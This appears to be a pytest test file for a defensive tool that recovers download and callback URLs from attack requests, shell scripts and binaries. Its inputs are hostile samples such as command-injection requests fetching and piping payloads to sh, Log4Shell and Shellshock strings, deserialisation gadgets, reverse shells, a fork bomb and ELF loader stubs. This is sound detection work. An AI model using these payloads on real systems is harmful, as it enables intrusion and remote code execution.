"""Requests, look-ups, branches, texts that run later, machine code: what recovery takes apart, and what it leaves."""

from __future__ import annotations

import base64
import json
import struct
from pathlib import Path
from urllib.parse import quote

import pytest

from urltrap import recover
from urltrap.model.url import canonical
from urltrap.recover import Context
from urltrap.recover.binary.read import read_binary


def sure(text: bytes) -> set[str]:
    return {item.url for item in recover.urls(text) if item.confidence >= 60 and not item.runtime}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"GET /shell?cd+/tmp;wget+http://1.2.3.9/a;sh+a HTTP/1.1\r\n\r\n", {"http://1.2.3.9/a"}),
        (b"GET /x?c=" + quote(quote("wget http://1.2.3.9/a")).encode() + b" HTTP/1.1", {"http://1.2.3.9/a"}),
        (b"GET /x?c=curl$IFShttp://1.2.3.9/a HTTP/1.1\n", {"http://1.2.3.9/a"}),
        (b"GET /x?c=curl${IFS}http://1.2.3.9/a HTTP/1.1\n", {"http://1.2.3.9/a"}),
        (b"GET /x?c=curl$(IFS)http://1.2.3.9/a HTTP/1.1\n", {"http://1.2.3.9/a"}),
        (b"POST /f HTTP/1.1\r\n\r\nhost=`busybox+wget+http://1.2.3.9/a+-O+/tmp/a;sh+/tmp/a`&v=0", {"http://1.2.3.9/a"}),
        (b"POST /f HTTP/1.1\r\n\r\nhost=1;wget%20http://1.2.3.9/a%20%26%26%20sh%20a&v=0", {"http://1.2.3.9/a"}),
        (
            b"POST /c HTTP/1.1\r\n\r\n" + json.dumps({"Cmd": ["sh", "-c", "curl http://1.2.3.9/a|sh"]}).encode(),
            {"http://1.2.3.9/a"},
        ),
        (b"POST /c HTTP/1.1\n\n<a xmlns='http://www.w3.org/x'>`wget http://1.2.3.9/a &amp;&amp; sh a`</a>", {"http://1.2.3.9/a"}),
        (b"GET / HTTP/1.1\nUser-Agent: () { :; }; /bin/bash -c \"wget http://1.2.3.9/a\"\n", {"http://1.2.3.9/a"}),
        (b'1.1.1.1 - - [01/Jan/2024:00:00:00 +0000] "GET /s?c=wget+1.2.3.9/a;sh+a HTTP/1.1" 404 1 "-" "x"', {"http://1.2.3.9/a"}),
        (b"GET / HTTP/1.1\nReferer: http://a.cc/\nUser-Agent: Mozilla (+http://b.cc/bot)\nHost: c.cc\n\n", set()),
        (b"GET /curl.sh HTTP/1.1\nhost: a.cc\nuser-agent: curl/7.38.0\n", set()),
        (b"${jndi:ldap://1.2.3.9:1389/a}", {"ldap://1.2.3.9:1389/a"}),
        (b"${${::-j}${lower:N}di:${env:X:-l}dap${x:-:}//1.2.3.9/a}", {"ldap://1.2.3.9/a"}),
        (b"GET /?a=%24%7Bjndi%3Armi%3A%2F%2F1.2.3.9%2Fa%7D HTTP/1.1\n", {"rmi://1.2.3.9/a"}),
        (b"${jndi:ldap://${env:SECRET}.evil.cc/a}", set()),
    ],
)  # fmt: skip
def test_a_request_gives_what_it_would_make_the_victim_fetch(text: bytes, expected: set[str]) -> None:
    assert sure(text) == expected


def test_a_gadget_server_gives_its_own_url_and_that_of_the_command() -> None:
    command = base64.b64encode(b"(curl -s 1.2.3.9:81/a||wget -q -O- 1.2.3.9:81/a)|bash").decode()
    text = f"GET / HTTP/1.1\nX: ${{jndi:ldap://1.2.3.8:1389/Basic/Command/Base64/{command}}}\n".encode()
    assert sure(text) == {f"ldap://1.2.3.8:1389/Basic/Command/Base64/{command}", "http://1.2.3.9:81/a"}


def test_what_is_only_on_one_branch_is_conditional() -> None:
    found = {
        item.url[-1]: item for item in recover.urls(b"wget http://1.2.3.9/a || curl -O http://1.2.3.9/b")
    }
    assert not found["a"].conditional and found["b"].conditional
    assert found["a"].chain == ["sh", "wget"] and found["b"].client == "curl" and found["b"].output == "b"


def test_both_sides_of_an_unknown_fact_and_all_of_a_case_are_walked() -> None:
    text = b"""
    a=$(uname -m)
    case $a in x86_64) f=amd;; armv7l) f=arm;; *) f=other;; esac
    if [ -x /usr/bin/foo ]; then g=1; else g=2; fi
    wget http://1.2.3.9/$f; curl -O http://1.2.3.9/$g
    """
    assert {url[-3:] for url in sure(text)} >= {"amd", "arm", "her"}
    assert {"http://1.2.3.9/1", "http://1.2.3.9/2"} <= sure(text)


def test_what_follows_an_exit_is_a_maybe() -> None:
    items = {
        item.url[-1]: item for item in recover.urls(b"wget http://1.2.3.9/a; exit 0; wget http://1.2.3.9/b")
    }
    assert not items["a"].conditional and items["b"].conditional


def test_a_part_that_only_the_victim_knows_is_shown_and_held_back() -> None:
    item = recover.urls(b"wget http://1.2.3.9/bins/$(uname -m).elf")[0]
    assert item.runtime and "truncated" in item.flags
    assert item.raw == b"http://1.2.3.9/bins/{uname -m}.elf"


def test_an_unknown_processor_is_each_that_the_text_names() -> None:
    text = b"""case $(uname -m) in x86_64) ;; mips) ;; esac
    wget http://1.2.3.9/b.$(uname -m); tftp -g -r k.`arch` 1.2.3.9"""
    assert sure(text) == {
        f"{start}.{name}" for start in ("http://1.2.3.9/b", "tftp://1.2.3.9/k") for name in ("x86_64", "mips")
    }
    assert all(item.conditional for item in recover.urls(text) if not item.runtime)


def test_an_unknown_processor_that_no_text_names_is_only_guessed() -> None:
    items = recover.urls(b"wget http://1.2.3.9/b.$(uname -m)")
    assert not sure(b"wget http://1.2.3.9/b.$(uname -m)")
    assert {"http://1.2.3.9/b.x86_64", "http://1.2.3.9/b.armv7l"} <= {item.url for item in items}
    nothing = recover.urls(b"wget http://1.2.3.9/$(hostname)/b.$(uname -m)")
    assert [item.runtime for item in nothing] == [True]


@pytest.mark.parametrize(
    "body",
    [
        b'O:4:"Task":1:{s:3:"cmd";s:24:"wget http://1.2.3.9/ser1";}',
        b"data=" + quote('a:1:{i:0;s:24:"wget http://1.2.3.9/ser1";}').encode(),
        b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet\x00\x00t\x00\x18wget http://1.2.3.9/ser1\x00\x02",
        b"rO0AB" + base64.b64encode(b"\xac\xed\x00\x05sr\x00t\x00\x18wget http://1.2.3.9/ser1\x00x")[5:],
        b"cposix\nsystem\n(S'wget http://1.2.3.9/ser1'\ntR.",
        b"\x80\x04\x95\x00\x00\x8c\x05posix\x8c\x06system\x8c\x18wget http://1.2.3.9/ser1\x94\x85R.",
    ],
    ids=["php", "php form", "java", "java base64", "pickle", "binary pickle"],
)
def test_serialised_objects_give_what_their_strings_would_fetch(body: bytes) -> None:
    assert "http://1.2.3.9/ser1" in sure(b"POST /x HTTP/1.1\r\nHost: 203.0.113.5\r\n\r\n" + body)


@pytest.mark.parametrize(
    ("text", "kind", "url"),
    [
        (b"bash -i >& /dev/tcp/1.2.3.9/4444 0>&1", "callback", "tcp://1.2.3.9:4444"),
        (b"nc -e /bin/sh 1.2.3.9 4444", "callback", "tcp://1.2.3.9:4444"),
        (b"python -c 'import socket;s=socket.socket();s.connect((\"1.2.3.9\",4444))'", "callback", "tcp://1.2.3.9:4444"),
        (b"./xmrig -o stratum+tcp://pool.cc:3333 -u w", "pool", "stratum+tcp://pool.cc:3333"),
    ],
)  # fmt: skip
def test_call_backs_and_pools_are_no_payloads(text: bytes, kind: str, url: str) -> None:
    assert not sure(text)
    assert (kind, url) in {(item.kind, item.url) for item in recover.read(text).found}


@pytest.mark.parametrize(
    "text",
    [
        b"# wget http://1.2.3.9/a\nls",
        b"grep http://1.2.3.9/a file",
        b"find . -exec grep http://1.2.3.9/ {} \\;",
        b"echo 'visit http://1.2.3.9/a'",
        b"curl -e http://1.2.3.9/ -V",
        b"cat notes.txt; wget --help; scp -qt /var/tmp/x",
    ],
)
def test_mentions_are_no_payloads(text: bytes) -> None:
    assert not sure(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"for i in a b; do; wget http://1.2.3.9/$i; done", {"http://1.2.3.9/a", "http://1.2.3.9/b"}),
        (b"cd /tmp ; ; wget http://1.2.3.9/a ;", {"http://1.2.3.9/a"}),
        (b"echo ) ; wget http://1.2.3.9/a", {"http://1.2.3.9/a"}),
        (b"sh -c 'wget http://1.2.3.9/a", {"http://1.2.3.9/a"}),
        (b"wget\xc2\xa0http://1.2.3.9/a", {"http://1.2.3.9/a"}),
        (b"bash -c $curl -fsSL http://1.2.3.9/a", {"http://1.2.3.9/a"}),
        (b"cd /tmp rm x wget http://1.2.3.9/a chmod 777 a", {"http://1.2.3.9/a"}),
    ],
)
def test_damaged_texts_are_read_as_they_were_meant(text: bytes, expected: set[str]) -> None:
    assert sure(text) == expected


def test_defanged_urls_and_redirect_parameters_are_read_in_plain_texts() -> None:
    text = b"see hxxp://evil[.]cc/a and https://r.cc/go?u=http%3A%2F%2Fevil.cc%2Fb"
    found = [item.url for item in recover.urls(text, Context(language="text"))]
    assert "http://evil.cc/a" in found and "http://evil.cc/b" in found


# -- machine code: stubs put together here, one per architecture

ADDRESS = bytes((45, 67, 89, 101))
REQUEST = b"GET /bot.x HTTP/1.0\r\n\r\n\0"


def stub64(code: bytes) -> bytes:
    """As `stub`, for 64-bit x86."""
    size = 120 + len(code) + len(REQUEST)
    header = b"\x7fELF" + bytes((2, 1, 1)) + bytes(9)
    header += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return header + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000) + code + REQUEST


def stub(machine: int, big: bool, code: bytes) -> bytes:
    """A 32-bit ELF file of one executable segment: code, then the request string."""
    order = ">" if big else "<"
    code += b"\0" * (-len(code) % 4)
    size = 84 + len(code) + len(REQUEST)
    ident = b"\x7fELF" + bytes((1, 2 if big else 1, 1)) + bytes(9)
    header = ident + struct.pack(
        order + "HHIIIIIHHHHHH", 2, machine, 1, 0x10054, 52, 0, 0, 52, 32, 1, 0, 0, 0
    )
    segment = struct.pack(order + "8I", 1, 0, 0x10000, 0x10000, size, size, 5, 0x1000)
    return header + segment + code + REQUEST


def words(order: str, *values: int) -> bytes:
    return struct.pack(f"{order}{len(values)}I", *values)


LITTLE, BIG = int.from_bytes(ADDRESS, "little"), int.from_bytes(ADDRESS, "big")
STUBS = {
    "x86 mov": stub(3, False, b"\x90\x66\xc7\x45\xe6\x00\x50\xc7\x45\xe8" + ADDRESS),
    "x86 push": stub(3, False, b"\x90\x68" + ADDRESS + b"\x66\x68\x00\x50\x66\x6a\x02"),
    "x86 octets": stub(3, False, b"\x90\x6a\x65\x6a\x59\x6a\x43\x6a\x2d\xe8\x00\x00\x00\x00"),
    "x86-64 register": stub64(b"\x90\x48\xb8\x02\x00\x00\x50" + ADDRESS + b"\x50\x0f\x05"),
    "x86-64 mov": stub64(b"\x90\x66\xc7\x45\xe6\x00\x50\xc7\x45\xe8" + ADDRESS),
    "x86-64 octets": stub64(b"\xbf\x2d\x00\x00\x00\xbe\x43\x00\x00\x00\xba\x59\x00\x00\x00\xb9\x65\x00\x00\x00"),
    "arm literal": stub(40, False, words("<", 0xE59F1004, 0xE1A00000, 0xE1A00000, LITTLE)),
    "arm octets": stub(40, False, words("<", 0xE3A00000 | 45, 0xE3A01000 | 67, 0xE3A02000 | 89, 0xE3A03000 | 101)),
    "arm movw": stub(40, False, words("<", 0xE3001000 | (LITTLE & 0xF000) << 4 | LITTLE & 0xFFF,
                                      0xE3401000 | (LITTLE >> 28) << 16 | LITTLE >> 16 & 0xFFF)),
    "mips": stub(8, True, words(">", 0x3C020000 | BIG >> 16, 0x34420000 | BIG & 0xFFFF)),
    "mipsel": stub(8, False, words("<", 0x3C020000 | LITTLE >> 16, 0x34420000 | LITTLE & 0xFFFF)),
    "mips octets": stub(8, True, words(">", 0x24040000 | 45, 0x24050000 | 67, 0x24060000 | 89, 0x24070000 | 101)),
    "powerpc": stub(20, True, words(">", 0x3D200000 | BIG >> 16, 0x61290000 | BIG & 0xFFFF)),
    "sh4": stub(42, False, struct.pack("<4H", 0xD101, 0x0009, 0x0009, 0x0009) + ADDRESS),
    "m68k": stub(4, True, b"\x4e\x71\x2f\x3c" + ADDRESS),
    "sparc": stub(2, True, words(">", 0x03000000 | BIG >> 10, 0x82106000 | BIG & 0x3FF)),
}  # fmt: skip


@pytest.mark.parametrize("name", STUBS)
def test_a_stub_gives_the_address_in_its_code(name: str) -> None:
    urls = [ask.url for ask in read_binary(STUBS[name]) if ask.kind == "payload"]
    assert urls == [b"http://45.67.89.101/bot.x"]


def test_a_loader_typed_as_hex_gives_its_url() -> None:
    data = STUBS["arm literal"]
    pieces = [data[at : at + 32] for at in range(0, len(data), 32)]
    lines = ["cd /tmp; >r; chmod 777 r"]
    lines += [
        "/bin/busybox echo -ne '" + "".join(f"\\x{byte:02x}" for byte in piece) + "' >> r" for piece in pieces
    ]
    lines += ["./r > .t; >r"]
    assert sure("\n".join(lines).encode()) == {"http://45.67.89.101/bot.x"}


def test_strings_under_a_one_byte_xor_are_seen() -> None:
    secret = bytes(byte ^ 0x42 for byte in b"\0http://evil.cc/x86\0")
    assert b"http://evil.cc/x86" in [ask.url for ask in read_binary(b"\x7fELF" + bytes(60) + secret)]


def test_a_hidden_table_gives_the_hosts_that_a_bot_reports_to() -> None:
    entries = (
        b"cnc.evil.cc",
        b"45.67.89.101:1312",
        b"192.168.1.1",
        b"/proc/",
        b"listening tun0",
        b"shell",
        b"GET / HTTP/1.1",
    )
    table = bytes(byte ^ 0x22 for byte in b"\0".join(entries) + b"\0")
    found = {(ask.kind, ask.url) for ask in read_binary(b"\x7fELF" + bytes(200) + table + bytes(200))}
    assert ("callback", b"tcp://cnc.evil.cc") in found
    assert ("callback", b"tcp://45.67.89.101:1312") in found
    assert not any(b"192.168" in url for _, url in found)


@pytest.mark.parametrize("cut", [0, 3, 20, 51, 60, 90, 100])
def test_a_cut_binary_is_read_without_an_error(cut: int) -> None:
    list(read_binary(STUBS["mips"][:cut]))


# -- budgets


@pytest.mark.parametrize(
    "text",
    [
        b":(){ :|:& };:",
        b"while :; do echo x; done; wget http://1.2.3.9/a",
        b"x=a; while :; do x=$x$x; done",
        b"f(){ f; f; }; f",
        b"for a in {1..2000}; do for b in {1..2000}; do c=$a$b; done; done",
        b'eval "$(cat /etc/passwd)"; sh -c "$0 $0"',
        b"${jndi:" * 50_000,
        b"POST / HTTP/1.1\n\n" + b"[" * 200_000,
    ],
)
def test_a_text_without_an_end_is_ended(text: bytes) -> None:
    recover.read(text)


def test_a_text_that_is_too_long_says_so_and_keeps_what_can_be_read() -> None:
    text = b"\n".join(b"echo 'x' > f; ls | wc" for _ in range(20_000)) + b"\nwget http://1.2.3.9/end\n"
    result = recover.read(text)
    assert any("were run" in note for note in result.notes)
    assert "http://1.2.3.9/end" in {item.url for item in result.found}


# -- real data


@pytest.mark.shared_data
@pytest.mark.filterwarnings(
    "ignore::pytest.PytestUnraisableExceptionWarning"
)  # the scorer leaves its files open
def test_real_texts_keep_their_bars(shared_data: Path) -> None:
    import importlib.util

    spec = importlib.util.spec_from_file_location("score_urls", shared_data / "score_urls.py")
    assert spec is not None and spec.loader is not None
    scorer = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(scorer)
    bars = {"lines": (0.98, 0.97), "scripts": (0.97, 0.9), "loaders": (1.0, 1.0)}
    for kind, (f1, exact) in bars.items():
        rows = scorer.load(str(shared_data), kind)
        counts, _, _ = scorer.score(
            rows, [sorted(sure(row["text"].encode("utf-8", "surrogatepass"))) for row in rows]
        )
        assert scorer.prf(counts)[2] >= f1, kind
        assert counts["exact"] >= exact * counts["lines"], kind


@pytest.mark.shared_data
def test_all_real_urls_have_a_canonical_form_that_stays(shared_data: Path) -> None:
    import csv

    with (shared_data / "urls.csv").open(encoding="utf-8", newline="") as file:
        rows = [row["url"] for row in csv.DictReader(file)]
    assert len(rows) > 8000
    for url in rows:
        form = canonical(url)
        assert canonical(form) == form
